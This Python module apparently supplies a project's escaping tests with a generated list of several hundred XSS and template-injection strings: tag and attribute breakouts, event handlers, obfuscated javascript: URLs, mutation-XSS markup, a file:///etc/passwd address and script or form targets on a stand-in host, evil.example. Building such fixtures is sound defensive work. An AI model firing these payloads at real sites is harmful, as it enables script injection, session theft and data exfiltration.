"""Texts that would be markup or script where a page did not escape them, written for this project.

Each of five hundred and more is a way out of where a text may stand (an element, an attribute, a
comment, raw text) followed by something that runs, loads or hides, or a spelling of one:
attributes, addresses, encodings, markup that means something else when it is parsed twice, braces
of templates.
"""

from __future__ import annotations

RUN = "alert(1)"
AWAY = "//evil.example"
WAYS_OUT = (
    "", '">', "'>", "-->", "]]>", "</title>", "</textarea>", "</pre>", "</style>", "</script>",
    "</template>", "</noscript>", "</select>", "</summary></details>",
)  # fmt: skip
ELEMENTS = (
    f"<script>{RUN}</script>", f"<script src={AWAY}/x.js></script>", f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>", f"<svg><script>{RUN}</script></svg>", f"<body onpageshow={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<video src=x onerror={RUN}>",
    f"<details open ontoggle={RUN}>x</details>", f"<input autofocus onfocus={RUN}>",
    f"<iframe srcdoc='<script>{RUN}</script>'>", f"<iframe src=javascript:{RUN}>",
    f"<object data=javascript:{RUN}>", f"<embed src={AWAY}/x.swf>", f"<base href={AWAY}/>",
    f"<form action={AWAY}><input name=csrf><button>x</button></form>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>", "<style>*{display:none}</style>",
    f"<link rel=stylesheet href={AWAY}/x.css>", f"<a href=javascript:{RUN}>x</a>",
    f"<button formaction=javascript:{RUN}>x</button>", f"<math href=javascript:{RUN}>x</math>",
    f"<a href='data:text/html,<script>{RUN}</script>'>x</a>", f"<x tabindex=0 onfocus={RUN}>x",
    f"<audio><source onerror={RUN}></audio>", f"<img srcset=x onerror={RUN} style=x:y>",
    f"<isindex action=javascript:{RUN} type=image>", f"<table background=javascript:{RUN}>",
    f"<!-- --!><img src=x onerror={RUN}>", "<b>bold</b>", "<plaintext>", "<!--", "<h1>Runs</h1>",
)  # fmt: skip
ATTRIBUTES = tuple(
    f"{quote}{name}={quote}{value}{quote} x={quote}"
    for quote in ('"', "'", "`", " ")
    for name, value in (
        (" onmouseover", RUN), (" autofocus onfocus", RUN), ("/onclick", RUN),
        (" style", "position:fixed;inset:0"), (" href", f"javascript:{RUN}"), (" srcdoc", "<p>"),
    )
)  # fmt: skip
ADDRESSES = (
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"java\nscript:{RUN}",
    f"\x01javascript:{RUN}", f" javascript:{RUN}", f"&#106;avascript:{RUN}", f"%6Aavascript:{RUN}",
    f"javascript&colon;{RUN}", f"vbscript:{RUN}", "data:text/html;base64,PHNjcmlwdD4=", AWAY,
    f"javascript://gitlab.example/%0a{RUN}", "\\\\evil.example", "/\\evil.example",
    "file:///etc/passwd", "blob:x", "about:blank",
)  # fmt: skip
ENCODED = (
    "&lt;script&gt;", "&amp;lt;script&amp;gt;", "&#60;script&#62;", "&#x3c;img src=x&#x3e;",
    "%3Cscript%3E", "%253Cscript%253E", "\\u003cscript\\u003e", "\\x3cscript\\x3e",
    "+ADw-script+AD4-", "\uff1cscript\uff1e", "\u2039script\u203a", "<scr\x0bipt>", "<\u017fcript>",
    "<script\x0c>", "<script/x>", "<script\u2028>", "<<script>>", "<scr<script>ipt>", "< script>",
    "\u202e<tpircs>", "\ufeff<script>", "<img src=x\u00a0onerror=alert(1)>", "<a\u0301>", "&", "&#",
    "&#0;", "&#x110000;", "&notanentity;", "<", ">", "\"", "'", "`", "</", "<?xml?>",
    "<!DOCTYPE x>",
)  # fmt: skip
TWICE_PARSED = (
    f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></math>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<form><math><mtext></form><form><mglyph><svg><textarea><a title='</textarea><img {RUN}>'>",
    f"<template><svg><style></template><img src=x onerror={RUN}>",
    f"<svg><title><p id='</title><script>{RUN}</script>'>", f"<xmp><p title='</xmp><b {RUN}>'>",
    f"<svg><foreignObject><iframe xmlns='x' srcdoc='{RUN}'>", f"<table><a><table><img {RUN}></a>",
    f"<select><option><style></select><svg onload={RUN}></style>", f"<p><svg><p><b onclick={RUN}>",
    f"<svg><desc><![CDATA[</desc><img src=x onerror={RUN}>]]>",
    f"<math><annotation-xml encoding='text/html'><style></annotation-xml><img {RUN}></style>",
)  # fmt: skip
BRACES = (
    "{{7*7}}", "{{ ''.__class__.__mro__ }}", "{% import os %}", "{%raw%}", "{#x#}", "${7*7}",
    "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('alert(1)')()}}", "[[7*7]]", "@{7*7}",
    "`${alert(1)}`", "{{csrf}}", "%(csrf)s", "{csrf}", "{0.__class__}", "$csrf", "{{{x}}}",
)  # fmt: skip
HOSTILE = tuple(
    dict.fromkeys(
        [way + element for way in WAYS_OUT for element in ELEMENTS]
        + [*ATTRIBUTES, *ADDRESSES, *ENCODED, *TWICE_PARSED, *BRACES]
    )
)
